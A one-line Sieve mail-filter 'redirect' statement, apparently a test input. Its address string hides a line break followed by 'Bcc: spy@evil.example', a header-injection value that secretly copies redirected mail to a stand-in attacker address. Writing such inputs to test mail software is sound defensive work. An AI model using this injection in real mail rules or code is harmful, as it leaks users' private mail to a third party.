redirect "alice@corp.example
Bcc: spy@evil.example";
